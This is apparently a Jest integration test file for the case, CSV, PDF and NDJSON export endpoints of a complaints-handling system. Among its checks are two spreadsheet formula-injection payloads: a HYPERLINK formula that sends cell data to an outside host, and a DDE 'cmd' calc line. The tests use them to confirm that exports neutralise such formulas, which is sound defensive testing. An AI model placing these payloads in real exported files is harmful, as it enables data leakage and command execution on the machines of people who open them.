import { parse } from 'csv-parse/sync';
import { spawnSync } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Pool } from 'pg';
import type { Response, Test } from 'supertest';
import { DataSource } from 'typeorm';
import { HeldWork } from '../src/database/held-work.js';
import { CaseListJob } from '../src/exports/case-list.job.js';
import { ExportWork } from '../src/exports/export-work.js';
import { eventsOf, startTestApp, type TestApp } from './support/app.js';
import { aCase, aCaseIn, aDecidedCase, anAllegation, type CaseUnderTest } from './support/builders.js';

/** The bytes as they came, whatever their type. */
async function bytesOf(test: Test): Promise<{ response: Response; bytes: Buffer; text: string }> {
  const response = await test.buffer(true).parse((stream, done) => {
    const chunks: Buffer[] = [];
    stream.on('data', (chunk: Buffer) => chunks.push(Buffer.from(chunk)));
    stream.on('end', () => done(null, Buffer.concat(chunks)));
  });
  const bytes = response.body as Buffer;
  return { response, bytes, text: bytes.toString('utf8') };
}

const rowsOf = (text: string): Record<string, string>[] => parse(text, { bom: true, columns: true });

describe('exports', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t.stop());

  const caseExport = async (username: string, id: string, query: string, status = 200) =>
    bytesOf((await t.as(username)).get(`/cases/${id}/export?${query}`).expect(status));

  /** Without the reads: to look at the history is one more of them. */
  const history = async (id: string): Promise<any[]> => {
    const { body } = await (await t.as('supervisor')).get(`/cases/${id}/history?limit=200`).expect(200);
    return (
      body.items
        .filter(({ type }: { type: string }) => !type.endsWith('read'))
        // How far the log has come meanwhile is no part of an export.
        .map(({ idx: _, witnessed: __, ...entry }: Record<string, unknown>) => entry)
    );
  };

  const valuesOf = (event: { values: { name: string; value: unknown }[] }): Record<string, unknown> =>
    Object.fromEntries(event.values.map(({ name, value }) => [name, value]));

  describe('of one case', () => {
    let c: CaseUnderTest;
    beforeAll(async () => {
      c = await aDecidedCase(t);
    });

    it('is JSON with the file and every event, its own among them', async () => {
      const { response, text } = await caseExport(
        'supervisor',
        c.id,
        `format=json&purpose=${encodeURIComponent('for the 委员会')}`,
      );
      expect(response.headers).toMatchObject({
        'content-type': 'application/json; charset=utf-8',
        'content-disposition': `attachment; filename="${c.reference}.json"`,
        'cache-control': 'no-store',
      });
      const body = JSON.parse(text);
      expect(body).toMatchObject({
        format: 'plumbline-case-history/1',
        exportedBy: 'Demo supervisor (supervisor)',
        purpose: 'for the 委员会',
        case: { id: c.id, reference: c.reference, status: 'DECIDED_SANCTION' },
      });
      expect(body.case.allegations[0].findings.map(({ stage }: any) => stage)).toEqual([
        'RECOMMENDED',
        'FINAL',
      ]);
      expect(body.case.sanctions).toMatchObject([{ kind: 'DEMERIT', status: 'DECIDED' }]);
      expect(body.events.map(({ seq }: any) => seq)).toEqual(body.events.map((_: unknown, i: number) => i));
      const own = body.events.at(-1);
      expect(own).toMatchObject({ type: 'case.exported', actor: { role: 'SUPERVISOR' } });
      expect(valuesOf(own)).toEqual({
        format: 'json',
        purpose: 'for the 委员会',
        purposeGiven: true,
        requestedBy: 'supervisor',
      });
      expect(response.headers['audit-receipt']).toBe(`${c.id} ${own.seq} ${own.proof.leaf}`);
    });

    it('is CSV with one row for each event, and records that no purpose was given', async () => {
      const { response, bytes, text } = await caseExport('supervisor', c.id, 'format=csv');
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="${c.reference}.csv"`);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const rows = rowsOf(text);
      const events = await history(c.id);
      expect(rows.map(({ type }) => type)).toEqual(events.map(({ type }) => type));
      expect(rows.find(({ type }) => type === 'case.accept')!['values']).toContain(
        'status: REGISTERED -> TRIAGED_ACCEPTED',
      );
      expect(valuesOf(events.at(-1))).toMatchObject({
        purpose: 'case history for the file',
        purposeGiven: false,
      });
    });

    it('is a PDF that shows the case', async () => {
      const { response, bytes } = await caseExport('auditor', c.id, 'format=pdf&purpose=handed%20over');
      expect(response.headers['content-type']).toBe('application/pdf');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="${c.reference}.pdf"`);
      expect(bytes.subarray(0, 8).toString()).toBe('%PDF-1.7');
      expect(bytes.subarray(-6).toString()).toContain('%%EOF');
      const text = pdfText(bytes);
      if (text === undefined) return;
      for (const expected of [
        c.reference,
        '夜市',
        '他们收了五百元，没有开收据。',
        'Demerit 记过',
        'handed over',
      ]) {
        expect(text).toContain(expected);
      }
    });

    it.each(['json', 'csv', 'pdf'])('hides the reporter from the auditor in %s', async (format) => {
      const { text, bytes } = await caseExport('auditor', c.id, `format=${format}`);
      const shown = format === 'pdf' ? pdfText(bytes) : text;
      if (shown === undefined) return;
      expect(shown).toContain(c.reference);
      expect(shown).not.toContain('举报人甲');
      expect(shown).not.toContain('+86 000 0000');
      // The proofs of the values are as telling as the values.
      expect(shown).not.toContain(Buffer.from('举报人甲').toString('base64url'));
    });

    it('shows a named reporter to the supervisor', async () => {
      const { text } = await caseExport('supervisor', c.id, 'format=json');
      expect(JSON.parse(text).case.reporter).toMatchObject({ name: 'Reporter 举报人甲' });
    });

    it.each([
      ['legal-reviewer', 403],
      ['agency-head', 403],
      ['intake-officer', 403],
      ['investigator', 200],
      ['petition-officer', 404],
      ['administrator', 404],
      ['officer', 404],
    ])('is for those who may: %s gets %i', async (username, status) => {
      const before = (await history(c.id)).length;
      const { text } = await caseExport(username, c.id, 'format=json', status);
      if (status !== 200) {
        expect(text).not.toContain(c.reference);
        expect(await history(c.id)).toHaveLength(before);
      }
    });

    it('is 404 for a case that does not exist', async () => {
      await caseExport('supervisor', randomUUID(), 'format=json', 404);
    });

    it.each([
      ['', '/format'],
      ['format=xlsx', '/format'],
      ['format=json&purpose=x', '/purpose'],
      [`format=json&purpose=${'x'.repeat(501)}`, '/purpose'],
      ['format=json&purpose=%20%20%20%20', '/purpose'],
      ['format=json&lang=zh', '/lang'],
    ])('refuses ?%s with a pointer', async (query, pointer) => {
      const { text } = await caseExport('supervisor', c.id, query, 400);
      expect(JSON.parse(text).errors).toEqual(expect.arrayContaining([expect.objectContaining({ pointer })]));
    });

    it('gives nothing when the trail cannot be written', async () => {
      const before = await history(c.id);
      await t.sql('REVOKE EXECUTE ON FUNCTION audit.record FROM plumbline_app');
      try {
        const { text } = await caseExport('supervisor', c.id, 'format=json', 503);
        expect(JSON.parse(text)).toMatchObject({ type: '/problems/trail-unavailable', status: 503 });
        expect(text).not.toContain(c.reference);
      } finally {
        await t.sql('GRANT EXECUTE ON FUNCTION audit.record TO plumbline_app');
      }
      expect(await history(c.id)).toEqual(before);
    });

    it('computes nothing in a spreadsheet', async () => {
      const payload = '=HYPERLINK("http://example.org/?"&A1,"open")';
      const hostile = await aCase(t, {
        statement: payload,
        allegations: [
          anAllegation(t, { place: `\t${payload}`, subjects: [{ description: '＝1+1', role: 'UNKNOWN' }] }),
        ],
      });
      const { text } = await caseExport('supervisor', hostile.id, 'format=csv&purpose=%3D1%2B1');
      const cells = parse(text, { bom: true }).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
      expect(text).toContain('HYPERLINK');
    });
  });

  describe('of many cases', () => {
    const ask = async (username: string, body: Record<string, unknown>, status = 201): Promise<any> =>
      (
        await (
          await t.as(username)
        )
          .post('/exports', {
            kind: 'CASE_LIST',
            format: 'csv',
            purpose: 'quarterly review of the county',
            ...body,
          })
          .expect(status)
      ).body;

    const finished = async (username: string, id: string): Promise<any> => {
      for (let attempt = 0; attempt < 200; attempt++) {
        const { body } = await (await t.as(username)).get(`/exports/${id}`).expect(200);
        if (body.status === 'DONE' || body.status === 'FAILED') return body;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      throw new Error('The export did not end');
    };

    const untilNone = async (rows: () => Promise<unknown[]>): Promise<void> => {
      while ((await rows()).length > 0) await new Promise((resolve) => setTimeout(resolve, 50));
    };

    const download = async (username: string, id: string, status = 200) =>
      bytesOf((await t.as(username)).get(`/exports/${id}/download`).expect(status));

    const ownEvents = async (
      username: string,
    ): Promise<{ type: string; values: Record<string, unknown> }[]> => {
      const events = await eventsOf(t, t.ids.users[username]!);
      return events.map(({ type, values: { rows: _rows, ...values } }) => ({ type, values }));
    };

    /** A run that no job makes. */
    const aRun = async (username: string, over: Record<string, unknown> = {}): Promise<string> => {
      const row = { status: 'QUEUED', format: 'csv', filter: {}, ...over };
      const id = randomUUID();
      await t.sql(
        `INSERT INTO app.export_run (id, kind, format, filter, purpose, status, created_by, created_at)
         VALUES ($1, 'CASE_LIST', $2, $3, 'made by the test itself', $4, $5, now())`,
        [id, row.format, row.filter, row.status, t.ids.users[username]],
      );
      await t.sql('INSERT INTO app.job_pass (job, user_id) VALUES ($1, $2)', [id, t.ids.users[username]]);
      return id;
    };
    const makeNow = (id: string): Promise<void> => t.get(CaseListJob).run(id, new AbortController().signal);
    const piecesOf = (id: string): Promise<{ n: number; bytes: Buffer }[]> =>
      t.sql('SELECT n, bytes FROM app.export_piece WHERE export_id = $1 ORDER BY n', [id]);

    let decided: CaseUnderTest;
    beforeAll(async () => {
      decided = await aCaseIn(t, 'SERVED');
      await aCase(t, { channel: 'MEDIA', statement: '公开报道 as the paper printed it' });
    });

    it('is made by a job, downloaded, and both are recorded with the purpose', async () => {
      const asked = await ask('auditor', { filter: { status: 'SERVED' }, format: 'csv' });
      expect(asked).toMatchObject({
        kind: 'CASE_LIST',
        format: 'csv',
        filter: { status: 'SERVED' },
        purpose: 'quarterly review of the county',
        status: 'QUEUED',
        casesDone: 0,
        sizeBytes: null,
      });
      const done = await finished('auditor', asked.id);
      expect(done).toMatchObject({ status: 'DONE', failure: null, casesDone: 1, casesTotal: 1 });
      expect(Date.parse(done.expiresAt) - Date.parse(done.finishedAt)).toBe(7 * 86_400_000);

      const { response, bytes, text } = await download('auditor', asked.id);
      expect(response.headers['content-length']).toBe(String(done.sizeBytes));
      expect(response.headers['content-disposition']).toMatch(
        /^attachment; filename="cases-[\d-]+-\w+\.csv"$/,
      );
      expect(createHash('sha256').update(bytes).digest('hex')).toBe(done.sha256);
      expect(rowsOf(text)).toMatchObject([
        {
          reference: decided.reference,
          status: 'SERVED',
          category: 'ARBITRARY_FINE',
          subjectOfficer: expect.stringContaining('何美兰'),
          recommendedFinding: 'SUBSTANTIATED',
          finalFinding: 'SUBSTANTIATED',
          sanctions: expect.stringMatching(/^DEMERIT SERVED from /),
        },
      ]);

      const events = (await ownEvents('auditor')).filter(({ type }) => type.startsWith('export.'));
      expect(events.slice(-2)).toEqual([
        {
          type: 'export.requested',
          values: {
            kind: 'CASE_LIST',
            format: 'csv',
            filter: { status: 'SERVED' },
            purpose: 'quarterly review of the county',
            cases: 1,
          },
        },
        {
          type: 'export.downloaded',
          values: {
            format: 'csv',
            purpose: 'quarterly review of the county',
            cases: 1,
            sizeBytes: String(done.sizeBytes),
            sha256: done.sha256,
          },
        },
      ]);
    });

    it('is NDJSON with the whole history of each case, without what its maker may not see', async () => {
      const { id } = await ask('auditor', { format: 'json', filter: { channel: 'MEDIA' } });
      await finished('auditor', id);
      const { response, text } = await download('auditor', id);
      expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
      const lines = text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatchObject({
        format: 'plumbline-case-history/1',
        exportedBy: 'Demo auditor (auditor)',
        purpose: 'quarterly review of the county',
        case: { channel: 'MEDIA', statement: '公开报道 as the paper printed it' },
        events: [{ type: 'case.registered' }, { type: 'allegation.added' }],
      });
      expect(text).not.toContain('举报人甲');
    });

    it('holds all events of each case and of no other, past a page of the trail as well', async () => {
      const allegations = Array.from({ length: 50 }, () => anAllegation(t));
      const cases: CaseUnderTest[] = [];
      for (let i = 0; i < 11; i++) cases.push(await aCase(t, { channel: 'LETTER', allegations }));
      const { id } = await ask('supervisor', { format: 'json', filter: { channel: 'LETTER' } });
      expect(await finished('supervisor', id)).toMatchObject({ status: 'DONE', casesDone: 11 });
      const { text } = await download('supervisor', id);
      const lines = text.trimEnd().split('\n');
      expect(lines).toHaveLength(11);
      for (const [i, line] of lines.entries()) {
        const { case: file, events } = JSON.parse(line);
        expect(file.id).toBe(cases[i]!.id);
        expect(events).toEqual(await history(file.id));
        expect(events).toHaveLength(51);
      }
    });

    it('goes in pieces when it is large', async () => {
      const statement = '长'.repeat(100_000);
      for (let i = 0; i < 3; i++) await aCase(t, { channel: 'COURT', statement });
      const { id } = await ask('supervisor', { format: 'json', filter: { channel: 'COURT' } });
      const done = await finished('supervisor', id);
      expect((await piecesOf(id)).length).toBeGreaterThan(2);
      const { bytes, response } = await download('supervisor', id);
      expect(bytes).toHaveLength(done.sizeBytes);
      expect(response.headers['content-length']).toBe(String(done.sizeBytes));
      expect(createHash('sha256').update(bytes).digest('hex')).toBe(done.sha256);
      expect(bytes.toString('utf8').trimEnd().split('\n')).toHaveLength(3);
    });

    it('leaves no connection behind when the client goes away', async () => {
      const { id } = await ask('supervisor', { format: 'json', filter: { channel: 'COURT' } });
      await finished('supervisor', id);
      const { port } = t.app.getHttpServer().address() as AddressInfo;
      const { token } = await t.as('supervisor');
      for (let i = 0; i < 10; i++) {
        await new Promise<void>((resolve, reject) => {
          const path = `/api/v1/exports/${id}/download`;
          const sent = httpRequest({
            port,
            host: '127.0.0.1',
            path,
            headers: { authorization: `Bearer ${token}` },
          });
          sent.on('response', (response) => {
            response.once('data', () => {
              response.destroy();
              resolve();
            });
          });
          sent.on('error', reject);
          sent.end();
        });
      }
      const pool = (t.get(DataSource).driver as unknown as { master: Pool }).master;
      for (let attempt = 0; attempt < 100 && pool.totalCount > pool.idleCount; attempt++) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      expect(pool.totalCount - pool.idleCount).toBe(0);
      expect(pool.waitingCount).toBe(0);
    });

    it('computes nothing in a spreadsheet', async () => {
      const place = '\r\n=cmd|" /C calc"!A0';
      await aCase(t, { channel: 'VISIT', allegations: [anAllegation(t, { place })] });
      const { id } = await ask('auditor', { filter: { channel: 'VISIT' } });
      await finished('auditor', id);
      const { text } = await download('auditor', id);
      expect(rowsOf(text).map((row) => row['place'])).toEqual([`'=cmd|" /C calc"!A0`]);
    });

    it('is its maker’s own', async () => {
      const { id } = await ask('auditor', {});
      await finished('auditor', id);
      await (await t.as('supervisor')).get(`/exports/${id}`).expect(404);
      await download('supervisor', id, 404);
      await (await t.as('administrator')).get(`/exports/${id}`).expect(404);
      const { body } = await (await t.as('supervisor')).get('/exports?limit=200').expect(200);
      expect(body.items.map((run: any) => run.id)).not.toContain(id);
    });

    it('is listed page by page, the newest first', async () => {
      const ids: string[] = [];
      for (let i = 0; i < 3; i++) ids.unshift((await ask('supervisor-2', { filter: { channel: 'WEB' } })).id);
      const client = await t.as('supervisor-2');
      const first = (await client.get('/exports?limit=2&count=true').expect(200)).body;
      expect(first.items.map((run: any) => run.id)).toEqual(ids.slice(0, 2));
      expect(first.total).toBe(3);
      const second = (await client.get(`/exports?limit=2&cursor=${first.nextCursor}`).expect(200)).body;
      expect(second.items.map((run: any) => run.id)).toEqual(ids.slice(2));
      expect(second.nextCursor).toBeNull();
      await client.get('/exports?cursor=xxxx').expect(400);
    });

    it('takes no filter for all cases', async () => {
      const { id } = await ask('supervisor', { filter: null });
      const { casesDone } = await finished('supervisor', id);
      const { body } = await (await t.as('supervisor')).get('/cases?count=true&limit=1').expect(200);
      expect(casesDone).toBe(body.total);
    });

    it.each(['investigator', 'intake-officer', 'administrator', 'agency-head'])(
      'is not for %s',
      async (username) => {
        await ask(username, {}, 403);
      },
    );

    it.each([
      [{ kind: 'STATISTICS' }, '/kind', 'CASE_LIST'],
      [{ kind: 'STATISTICS' }, '/kind', 'CASE_LIST'],
      [{ format: 'pdf' }, '/format', 'json, csv'],
      [{ purpose: 'short' }, '/purpose', '10'],
      [{ purpose: `          x          ` }, '/purpose', '10'],
      [{ purpose: undefined }, '/purpose', 'string'],
      [{ filter: { status: 'NONE' } }, '/filter/status', 'REGISTERED'],
      [{ filter: { limit: 10 } }, '/filter/limit', 'limit'],
      [{ filter: { reporter: 'x' } }, '/filter/reporter', 'reporter'],
      [{ asOf: '2026-01-01' }, '/asOf', 'asOf'],
    ])('refuses %j with a pointer', async (body, pointer, words) => {
      const problem = await ask('auditor', body, 400);
      const messages = problem.errors.flatMap((one: any) => (one.pointer === pointer ? one.message : []));
      expect(messages.join('; ')).toContain(words);
    });

    it('cannot be downloaded before it is done, nor when it failed', async () => {
      const id = await aRun('auditor', { status: 'RUNNING' });
      const { text } = await download('auditor', id, 409);
      expect(JSON.parse(text)).toMatchObject({ type: '/problems/export-not-done', status: 409 });
      const failed = await aRun('auditor', { status: 'FAILED' });
      await download('auditor', failed, 409);
    });

    it('is gone after seven days', async () => {
      const id = await aRun('auditor');
      await makeNow(id);
      await t.sql('UPDATE app.export_run SET expires_at = now() WHERE id = $1', [id]);
      const { text } = await download('auditor', id, 410);
      expect(JSON.parse(text)).toMatchObject({ type: '/problems/export-expired' });
      await t.get(ExportWork).deleteExpired();
      expect(await piecesOf(id)).toEqual([]);
    });

    it('begins again from the start when a process ended in the middle', async () => {
      const id = await aRun('auditor', { filter: { status: 'SERVED' } });
      await makeNow(id);
      const once = await piecesOf(id);
      await t.sql(
        `UPDATE app.export_run SET status = 'RUNNING', cases_done = 7, finished_at = NULL WHERE id = $1`,
        [id],
      );
      await t.sql(`INSERT INTO app.export_piece VALUES ($1, 99, 'half a row')`, [id]);
      await makeNow(id);
      expect(await piecesOf(id)).toEqual(once);
      expect(await finished('auditor', id)).toMatchObject({ status: 'DONE', casesDone: 1 });
    });

    it('goes on elsewhere when its process ends', async () => {
      const id = await aRun('auditor');
      await expect(t.get(CaseListJob).run(id, AbortSignal.abort())).rejects.toThrow();
      const [row] = await t.sql('SELECT status FROM app.export_run WHERE id = $1', [id]);
      expect(row.status).toBe('RUNNING');
      await makeNow(id);
      expect(await finished('auditor', id)).toMatchObject({ status: 'DONE' });
    });

    describe('whose process died', () => {
      /** A job that a process took a minute ago and did not end. In one transaction: nobody takes it before. */
      const takenJob = async (id: string, attempts: number, by: string): Promise<string> => {
        await t.sql(`SELECT graphile_worker.add_job('export-cases', '{"exportId":"${id}"}', max_attempts => 5);
          UPDATE graphile_worker._private_jobs SET attempts = ${attempts}, locked_at = now() - interval '1 minute', locked_by = '${by}'
          WHERE payload ->> 'exportId' = '${id}'`);
        const [job] = await jobsOf(id);
        return job!.id;
      };
      const jobsOf = (id: string): Promise<{ id: string; locked_by: string | null }[]> =>
        t.sql(`SELECT id, locked_by FROM graphile_worker._private_jobs WHERE payload ->> 'exportId' = $1`, [
          id,
        ]);

      it('is made by another', async () => {
        const id = await aRun('auditor', { status: 'RUNNING' });
        await takenJob(id, 1, 'a dead process');
        expect(await finished('auditor', id)).toMatchObject({ status: 'DONE', failure: null });
      });

      it('for the fifth time is given up', async () => {
        const id = await aRun('auditor', { status: 'RUNNING' });
        await takenJob(id, 5, 'a dead process');
        expect(await finished('auditor', id)).toMatchObject({
          status: 'FAILED',
          failure: 'It broke off. Ask for a new export.',
        });
        await expect(untilNone(() => jobsOf(id))).resolves.toBeUndefined();
      });

      it('is told from the one that its process makes still, and from what the same process makes beside', async () => {
        const [dead, alive] = [await aRun('auditor'), await aRun('auditor')];
        const job = await takenJob(alive, 5, 'one process');
        await t.get(HeldWork).during(`job ${job}`, async () => {
          await takenJob(dead, 1, 'one process');
          expect(await finished('auditor', dead)).toMatchObject({ status: 'DONE' });
          await new Promise((resolve) => setTimeout(resolve, 6000));
          expect(await jobsOf(alive)).toEqual([{ id: job, locked_by: 'one process' }]);
        });
        expect(await finished('auditor', alive)).toMatchObject({ status: 'FAILED' });
      }, 60_000);
    });

    it('is made with the permissions that its maker has then', async () => {
      const [gone, kept] = [await aRun('supervisor-2'), await aRun('supervisor-2')];
      const admin = await t.as('administrator');
      const account = `/users/${t.ids.users['supervisor-2']}`;
      const { grants, version } = (await admin.get(account).expect(200)).body;
      await admin.post(`${account}/grants/${grants[0].id}/revoke`, { reason: 'moved on' }).expect(200);
      await makeNow(gone);
      expect((await t.sql('SELECT status, failure FROM app.export_run WHERE id = $1', [gone]))[0]).toEqual({
        status: 'FAILED',
        failure: 'The account that asked for it may no longer export.',
      });
      await admin
        .patch(account, { status: 'DISABLED', reason: 'moved on' }, { 'if-match': `"${version + 1}"` })
        .expect(200);
      await makeNow(kept);
      expect((await t.sql('SELECT status, failure FROM app.export_run WHERE id = $1', [kept]))[0]).toEqual({
        status: 'FAILED',
        failure: 'The account that asked for it is disabled.',
      });
      expect(await piecesOf(kept)).toEqual([]);
    });

    it('gives nothing when the trail cannot be written', async () => {
      const id = await aRun('auditor');
      await makeNow(id);
      await t.sql('REVOKE EXECUTE ON FUNCTION audit.record FROM plumbline_app');
      try {
        const { text } = await download('auditor', id, 503);
        expect(text).not.toContain(decided.reference);
        await ask('auditor', {}, 500);
      } finally {
        await t.sql('GRANT EXECUTE ON FUNCTION audit.record TO plumbline_app');
      }
      await download('auditor', id);
    });
  });
});

/** The text of a PDF, where the program that reads it is installed. */
function pdfText(pdf: Buffer): string | undefined {
  const { error, stdout } = spawnSync('pdftotext', ['-', '-'], { input: pdf, encoding: 'utf8' });
  return error ? undefined : stdout;
}
